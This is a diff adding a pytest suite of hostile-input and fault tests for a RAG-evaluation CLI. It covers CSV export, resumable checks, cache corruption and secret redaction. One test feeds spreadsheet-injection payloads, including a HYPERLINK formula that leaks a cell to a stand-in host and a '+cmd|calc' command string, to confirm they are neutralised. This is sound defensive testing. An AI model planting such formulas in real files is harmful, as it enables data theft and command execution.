@@ -1,0 +1,231 @@
+"Hostile input and faults, round 3 (issue 40): one test per item, through the command line or the public API."
+import csv, json, os, resource, signal, subprocess, sys
+from pathlib import Path
+import pytest
+from ragnb.app.cli import main
+from ragnb.check.metrics import save_results
+from ragnb.testing.scripted import ScriptedServer
+
+ROOT = Path(__file__).resolve().parents[1]
+E, N = 'Entailment', 'Neutral'
+FORMULA = ('=', '+', '@', '\t', '\r')
+
+def _cells(path:Path) -> list:
+    return [c for row in csv.reader(path.read_text(encoding='utf-8').splitlines()) for c in row]
+
+def _formula_free(path:Path):
+    "No cell a spreadsheet would run: text starting with = + @ tab CR, or '-' that is not a number."
+    for c in _cells(path):
+        assert not c.startswith(FORMULA), f"{path.name}: {c!r}"
+        if c.startswith('-'): float(c)   # a negative number is fine; '-2+3' as text is not
+
+def _checked(qid, claim, hit):
+    return dict(query_id=qid, query=f'question {qid}', gt_answer='g', response='r',
+                retrieved_context=[{'doc_id': '=c0', 'text': 't'}], response_claims=[['r', 'is', 'x']],
+                gt_answer_claims=[claim, 'grass is green'], answer2response=[E], response2answer=[E if hit else N, N],
+                retrieved2response=[[E]], retrieved2answer=[[E if hit else N], [N]])
+
+# 17 -----------------------------------------------------------------------------------------------------------------
+def test_17_compare_csvs_neutralise_formula_cells(tmp_path):
+    claims = ['=HYPERLINK("http://x.example/?"&A1,"x")', '+cmd|calc', '@SUM(A1:A9)', '-2+3']
+    save_results([_checked(f'=q{i}', c, False) for i, c in enumerate(claims)], tmp_path/'=base.json')
+    save_results([_checked(f'=q{i}', c, True) for i, c in enumerate(claims)], tmp_path/'@new.json')
+    assert main(['compare', str(tmp_path/'=base.json'), str(tmp_path/'@new.json'), '--out', str(tmp_path/'cmp')]) == 0
+    for name in ('table.csv', 'deltas.csv', 'claim_moves.csv'): _formula_free(tmp_path/'cmp'/name)
+    cells = _cells(tmp_path/'cmp'/'claim_moves.csv')
+    assert "'=q0" in cells and any(c.startswith("'=HYPERLINK") for c in cells) and "'-2+3" in cells
+    assert "'=base" in _cells(tmp_path/'cmp'/'table.csv')   # the system's name, as a column or index label
+
+# 8 and 17: audit ------------------------------------------------------------------------------------------------------
+TOY = {'results': [dict(
+    query_id='=q1', query='=1+1', gt_answer='G.', response='R.', retrieved_context=[{'doc_id': 'd', 'text': 'C.'}],
+    response_claims=['=Nile flows north.', 'Paris is big.'], gt_answer_claims=['Nile is long.', '@Rome is old.'],
+    answer2response=[E, N], response2answer=[E, 'Contradiction'],
+    retrieved2response=[[E], [N]], retrieved2answer=[[N], [N]])]}
+
+def _nile(call, rng): return 'Yes' if 'Nile' in call.inputs['claim'] else 'No.'
+
+def test_8_audit_writes_each_file_whole_and_names_the_one_that_failed(tmp_path):
+    ref, out = tmp_path/'ref.json', tmp_path/'a'
+    ref.write_text(json.dumps(TOY))
+    with ScriptedServer(rules={'judge_claim_binary': _nile}) as srv:
+        env = {**{k: v for k, v in os.environ.items() if not k.startswith('OPENAI')}, 'OPENAI_BASE_URL': srv.base_url,
+               'OPENAI_API_KEY': 'test', 'RAGNB_MODEL': 'scripted-test-model', 'RAGNB_CACHE_DIR': str(tmp_path/'cache')}
+        cmd = [str(Path(sys.executable).with_name('ragnb')), 'audit', str(ref), '--judge-profile', 'small', '--out', str(out)]
+        r = subprocess.run(cmd, env=env, capture_output=True, text=True)
+        assert r.returncode == 0, r.stderr
+        _formula_free(out/'pairs.csv')
+        # again (every call cached), with the figure's place taken by a folder: its write fails as a full disk would
+        (out/'audit.png').unlink(); (out/'audit.png').mkdir(); (out/'audit.png'/'keep').write_text('x')
+        (out/'pairs.csv').write_text('old,pairs\n'); (out/'summary.json').write_text('{"old": true}')
+        r = subprocess.run(cmd, env=env, capture_output=True, text=True)
+    assert r.returncode == 1 and 'Traceback' not in r.stderr, r.stderr
+    assert f"ragnb audit: error: cannot write {out/'audit.png'}" in r.stderr, r.stderr   # the error names the file
+    assert sorted(p.name for p in out.iterdir()) == ['audit.png', 'pairs.csv', 'summary.json']   # no temporary left
+    assert len(_cells(out/'pairs.csv')) > 20 and json.loads((out/'summary.json').read_text())['summary']  # whole, new
+
+
+@pytest.fixture
+def scripted_env(server, monkeypatch):
+    for k, v in {'OPENAI_BASE_URL': server.base_url, 'OPENAI_API_KEY': 'sk-test', 'RAGNB_MODEL': 'scripted-test-model'}.items():
+        monkeypatch.setenv(k, v)
+    return server
+
+def _inputs(path:Path, responses:dict):
+    path.write_text(json.dumps({'results': [
+        dict(query_id=q, query=f'What about {q}?', gt_answer='The Nile is in Africa.', response=resp,
+             retrieved_context=[{'doc_id': 'd1', 'text': 'The Nile is a river in Africa.'}]) for q, resp in responses.items()]}))
+    return path
+
+# 3 ------------------------------------------------------------------------------------------------------------------
+def test_3_check_resumes_only_from_an_output_made_from_its_input(tmp_path, scripted_env, capsys):
+    a = _inputs(tmp_path/'a.json', {'q1': 'The Nile is in Africa.', 'q2': 'It is long.'})
+    out = tmp_path/'out.json'
+    assert main(['check', str(a), '--out', str(out)]) == 0
+    made, n = out.read_bytes(), len(scripted_env.requests)
+    assert main(['check', str(a), '--out', str(out)]) == 0               # same input: resumes, nothing to do
+    assert len(scripted_env.requests) == n
+    capsys.readouterr()
+    changed = _inputs(tmp_path/'b.json', {'q1': 'The Nile is in Asia.', 'q2': 'It is long.'})
+    other = _inputs(tmp_path/'c.json', {'x1': 'The Nile is in Africa.'})
+    for bad, why in ((changed, "result 'q1': its response differs"), (other, "1 result(s) not in it (e.g. 'x1')")):
+        assert main(['check', str(bad), '--out', str(out)]) == 1
+        err = capsys.readouterr().err
+        assert f"{out} was not made from {bad} ({why}" in err and '--restart' in err
+        assert out.read_bytes() == made and len(scripted_env.requests) == n   # no call, the old output kept
+    assert main(['check', str(changed), '--out', str(out), '--restart']) == 0
+    got = json.loads(out.read_text())['results']
+    assert got[0]['response'] == 'The Nile is in Asia.' and len(scripted_env.requests) > n
+
+# 15 -----------------------------------------------------------------------------------------------------------------
+def test_15_check_on_zero_results_is_a_clear_error(tmp_path, scripted_env, capsys):
+    empty = tmp_path/'empty.json'; empty.write_text('{"results": []}')
+    assert main(['check', str(empty), '--out', str(tmp_path/'o.json')]) == 1
+    assert f'ragnb check: error: {empty}: no results to check' in capsys.readouterr().err
+    assert not scripted_env.requests and not (tmp_path/'o.json').exists()
+    from ragnb.check.checker import run_checks
+    with pytest.raises(ValueError, match='no results to check'): run_checks([])
+
+# 16 -----------------------------------------------------------------------------------------------------------------
+def test_16_an_out_name_too_long_for_its_temporary_file_fails_before_any_call(tmp_path, scripted_env, capsys):
+    a = _inputs(tmp_path/'a.json', {'q1': 'The Nile is in Africa.'})
+    name = 'r' * 245 + '.json'                                            # 250 bytes: legal, its temporary name is not
+    (tmp_path/name).write_text('{}'); (tmp_path/name).unlink()            # the name itself is fine here
+    assert main(['check', str(a), '--out', str(tmp_path/name)]) == 1
+    err = capsys.readouterr().err
+    assert 'the file name is 250 bytes' in err and 'at most 241 bytes' in err and not scripted_env.requests
+    assert main(['check', str(a), '--out', str(tmp_path/('r' * 236 + '.json'))]) == 0   # 241 bytes: fine
+
+# 1 ------------------------------------------------------------------------------------------------------------------
+def test_1_a_batch_reply_that_echoes_the_key_is_stored_without_it(tmp_path, monkeypatch):
+    from ragnb.core.batch import BatchAPI
+    from ragnb.core.llm import LLM, Request, Retries
+    key = 'sk-proj-Zx81secretvalue1234567890'
+    monkeypatch.setenv('RAGNB_BATCH_POLL', '0.02')
+    reqs = [Request([{'role': 'user', 'content': f'Say hello to {i}'}], prompt='greeting@1', id=f'q{i}') for i in range(3)]
+    with ScriptedServer(rules={'greeting': lambda call, rng: f'Hello! You sent Authorization: Bearer {key}.'}) as srv:
+        llm = LLM(base_url=srv.base_url, api_key=key, model='scripted-test-model', cache_path=tmp_path/'c.sqlite',
+                  progress=False, retries=Retries(backoff=0.01), batch=BatchAPI(poll=0.02))
+        got = llm.batch(reqs)
+        assert len(srv.batches) == 1                                         # it went through the Batch API
+    assert all(r.ok and '[redacted]' in r.text and key not in r.text for r in got)
+    stored = b''.join(p.read_bytes() for p in tmp_path.rglob('*') if p.is_file())
+    assert key.encode() not in stored and b'[redacted]' in stored           # calls.sqlite, batch job files
+
+# 4 ------------------------------------------------------------------------------------------------------------------
+def test_4_evidence_in_a_decomposed_document_is_found_when_quoted_composed():
+    import unicodedata
+    from ragnb.docs.documents import Document, split_document
+    from ragnb.docs.evidence import ground, locate
+    text = unicodedata.normalize('NFD', 'Intro. Le café de Müller ouvre à 7 h. La crème brûlée coûte 9 €. Fin.')
+    for quote in ('Le café de Müller ouvre à 7 h.', 'la crème brûlée coûte 9 €', 'ＣＡＦÉ DE MÜLLER'):
+        m = locate(quote, text)
+        assert m and m.method == 'normalised', quote
+        got = unicodedata.normalize('NFKC', text[m.start:m.end]).lower()
+        assert got == unicodedata.normalize('NFKC', quote).lower()       # whole letters: no accent left behind
+        assert not unicodedata.combining(text[m.end]) if m.end < len(text) else True
+    doc = Document(text, 'menu', 'menu.md', 'menu.md', '.md')
+    chunk = split_document(doc, chunk_size=40, chunk_overlap=0)[1]
+    m = ground('La crème brûlée coûte 9 €.', chunk, doc)
+    assert m and unicodedata.normalize('NFC', text[m.start:m.end]) == 'La crème brûlée coûte 9 €.'
+
+# 5 ------------------------------------------------------------------------------------------------------------------
+def test_5_a_chunk_holding_a_second_copy_of_the_evidence_is_relevant():
+    from ragnb.docs.documents import Chunk
+    from ragnb.rag.retrieval import FunctionRetriever, evaluate
+    said = 'The warranty covers parts and labour for two years.'
+    text = f'Summary. {said} ' + 'Details follow here. ' * 6 + f'Conclusion. {said}'
+    cut = len(text) // 2
+    chunks = [Chunk(text[:cut], 'manual', 0, 0), Chunk(text[cut:], 'manual', 1, cut)]
+    s = text.index(said)
+    row = dict(question='How long is the warranty?', source_doc='manual', evidence=said, evidence_start=s,
+               evidence_end=s + len(said), evidence_found=True)
+    second_first = FunctionRetriever(lambda q: ['manual#1', 'manual#0'])
+    rep = evaluate([row], chunks, second_first, ks=(1,), n_resamples=50)
+    assert rep.mean('hit', 1) == 1.0 and rep.mean('mrr', 1) == 1.0 and rep.mean('recall', 1) == 1.0
+    unrelated = Chunk('Nothing about it at all in this chunk of text.', 'manual', 2, len(text) + 1)
+    rep = evaluate([row], chunks + [unrelated], FunctionRetriever(lambda q: ['manual#2', 'manual#1']), ks=(1, 2), n_resamples=50)
+    assert rep.mean('hit', 1) == 0.0 and rep.mean('hit', 2) == 1.0 and rep.mean('mrr', 2) == 0.5
+
+# 10 -----------------------------------------------------------------------------------------------------------------
+def _checked_run(tmp_path, server, monkeypatch):
+    "A checked result and the cache it was made with (its calls and traces)."
+    for k, v in {'OPENAI_BASE_URL': server.base_url, 'OPENAI_API_KEY': 'sk-test', 'RAGNB_MODEL': 'scripted-test-model',
+                 'RAGNB_CACHE_DIR': str(tmp_path/'cache')}.items(): monkeypatch.setenv(k, v)
+    a = _inputs(tmp_path/'a.json', {'q1': 'The Nile is in Africa.'})
+    assert main(['check', str(a), '--out', str(tmp_path/'out.json')]) == 0
+    return tmp_path/'out.json', tmp_path/'cache'/'calls.sqlite'
+
+def _state(folder:Path) -> dict:
+    "The cache file's bytes and time, and which files the folder holds (a reader of a WAL file may touch its -shm)."
+    return {p.name: (p.stat().st_mtime_ns, p.read_bytes()) if p.suffix == '.sqlite' else None for p in folder.iterdir()}
+
+def test_10_show_reads_a_cache_without_writing_and_names_a_damaged_one(tmp_path, server, monkeypatch, capsys):
+    out, cache = _checked_run(tmp_path, server, monkeypatch)
+    import sqlite3
+    sqlite3.connect(cache).execute('PRAGMA wal_checkpoint(TRUNCATE)')   # as a finished run leaves it
+    before = _state(cache.parent)
+    capsys.readouterr()
+    assert main(['show', str(out), 'q1', '--cache', str(cache)]) == 0
+    assert 'claims of the response' in capsys.readouterr().out
+    assert _state(cache.parent) == before   # nothing created or touched: works on read-only storage too
+    data = bytearray(cache.read_bytes())
+    size = int.from_bytes(data[16:18], 'big')   # SQLite's page size
+    for page in range(1, len(data) // size):     # every page but the first (the schema) gets an invalid page type
+        data[page * size] = 0
+    cache.write_bytes(bytes(data))
+    for f in cache.parent.glob('calls.sqlite-*'): f.unlink()
+    assert main(['show', str(out), 'q1', '--cache', str(cache)]) == 1
+    err = capsys.readouterr().err
+    assert err.startswith('ragnb show: error: call cache ') and str(cache) in err and 'Traceback' not in err
+    assert len(err.strip().splitlines()) == 1
+
+# 13 -----------------------------------------------------------------------------------------------------------------
+WRITER = '''
+import sys, time
+from ragnb.core.cache import CallCache, Exchange
+start = float(sys.argv[3])
+while time.time() < start: pass          # every writer opens the new file at the same moment
+c = CallCache(sys.argv[1]); who = sys.argv[2]
+for i in range(int(sys.argv[4])):
+    c.put(f"{who}-{i}", {"text": "x" * 2000, "i": i}, "chat", "m", "p@1")
+    c.put_trace(Exchange(item_id=f"{who}/{i}", key=f"{who}-{i}", prompt="p@1", model="m",
+                         messages=[{"role": "user", "content": "q" * 500}], params={}, source="live", reply="x",
+                         endpoint="e", run=who, time=time.time()))
+print(len(c.errors))
+'''
+
+@pytest.mark.parametrize('trial', range(6))
+def test_13_writers_opening_one_new_cache_at_once_all_get_their_rows_in(tmp_path, trial):
+    "Before: 'cannot be opened (database is locked)' for about one writer in eight (the switch to WAL, the first table)."
+    import time
+    from ragnb.core.cache import CallCache
+    path, n, rows = tmp_path/'calls.sqlite', 4, 40 if trial else 300
+    t = time.time() + 2
+    procs = [subprocess.Popen([sys.executable, '-c', WRITER, str(path), f'w{k}', str(t), str(rows)],
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for k in range(n)]
+    outs = [p.communicate(timeout=300) for p in procs]
+    for p, (so, se) in zip(procs, outs):
+        assert p.returncode == 0 and so.strip() == '0', se[-2000:]   # no 'database is locked', no write kept in memory
+    c = CallCache(path)
+    assert len(c) == n * rows and len(c.traces(prefix='w')) == n * rows
